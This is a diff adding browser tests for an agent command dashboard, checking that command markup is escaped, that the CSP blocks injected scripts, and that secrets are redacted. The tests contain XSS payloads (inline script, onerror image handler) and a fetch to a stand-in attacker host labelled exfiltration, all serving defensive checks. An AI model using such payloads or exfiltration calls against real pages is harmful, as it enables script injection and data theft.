@@ -298,7 +298,80 @@ test('a command carrying markup is shown as text', async () => {
   const text = await shown.locator('.command').textContent();
   assert.ok(text.includes('<img src=x onerror=window.__pwned=1>'), text);
   assert.equal(await page.locator('#feed img').count(), 0);
+
+  await agent.run(['/bin/echo', '<script>window.__pwned=2</script><b>bold</b>']);
+  const script = row('<script>window.__pwned=2</script>');
+  await script.waitFor({ timeout: 1000 });
+  assert.ok((await script.locator('.command').textContent()).includes('<script>window.__pwned=2</script><b>bold</b>'));
+  assert.equal(await page.locator('#feed script, #feed b').count(), 0);
   assert.equal(await page.evaluate(() => window.__pwned), undefined);
+});
+
+test('the CSP blocks script injected into the page', async () => {
+  // A page of its own: the violations provoked here are the point, not page errors.
+  const other = await context.newPage();
+  await other.goto(`${base}/dashboard/#token=${token}`);
+  await other.locator('#conn[data-state="live"]').waitFor({ timeout: 5000 });
+  const outcome = await other.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => {
+      violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
+    });
+    // An inline <script> element, an inline event handler, a foreign script and a
+    // connection to a foreign origin (exfiltration). (Not eval: code run through the
+    // DevTools protocol, as this is, is exempt from the page's CSP, eval included.)
+    const inline = document.createElement('script');
+    inline.textContent = 'window.__pwned = "inline script ran"';
+    document.body.appendChild(inline);
+    const holder = document.createElement('div');
+    holder.innerHTML = '<img src="data:," onerror="window.__pwnedHandler = 1">';
+    document.body.appendChild(holder);
+    const foreign = document.createElement('script');
+    foreign.src = 'https://evil.invalid/x.js';
+    document.body.appendChild(foreign);
+    let fetchError = null;
+    try { await fetch('https://evil.invalid/collect'); } catch (e) { fetchError = e.name; }
+    for (let i = 0; i < 100 && violations.length < 4; i++) {
+      await new Promise((r) => setTimeout(r, 20));
+    }
+    return {
+      violations,
+      fetchError,
+      pwned: [window.__pwned, window.__pwnedHandler],
+    };
+  });
+  await other.close();
+  assert.deepEqual(outcome.pwned, [undefined, undefined], JSON.stringify(outcome));
+  assert.equal(outcome.fetchError, 'TypeError', JSON.stringify(outcome));
+  const seen = outcome.violations.map((v) => `${v.directive} ${v.blocked}`).sort();
+  assert.deepEqual(seen, [
+    'connect-src https://evil.invalid/collect',
+    'script-src-attr inline',
+    'script-src-elem https://evil.invalid/x.js',
+    'script-src-elem inline',
+  ], JSON.stringify(outcome));
+});
+
+test('secrets show redacted in the feed and on a waiting ask', async () => {
+  const secrets = ['brLeakPw1', 'brLeakUrl2', 'brLeakTok3', 'brLeakUrl4'];
+  const result = await agent.run(['/bin/echo', 'clone', '--password=brLeakPw1', 'https://ann:brLeakUrl2@git.example/x']);
+  assert.equal(result.decision, 'allow', result.detail);
+  const shown = row('--password=[REDACTED] https://ann:[REDACTED]@git.example/x', 'allow');
+  await shown.waitFor({ timeout: 1000 });
+
+  const waiting = agent.run(['/bin/echo', 'deploy', '--token', 'brLeakTok3', 'https://ops:brLeakUrl4@deploy.example']);
+  const pending = card('deploy --token [REDACTED] https://ops:[REDACTED]@deploy.example');
+  await pending.waitFor({ timeout: 2000 });
+  const html = await page.content();
+  const text = await page.locator('body').innerText();
+  await pending.getByRole('button', { name: /Deny/ }).click();
+  assert.equal((await waiting).decision, 'deny');
+  for (const secret of secrets) {
+    assert.ok(!html.includes(secret), `page HTML shows ${secret}`);
+    assert.ok(!text.includes(secret), `page text shows ${secret}`);
+  }
+  const after = await page.content();
+  for (const secret of secrets) assert.ok(!after.includes(secret), `page HTML shows ${secret} after the deny`);
 });
 
 test('filters, search and pause', async () => {
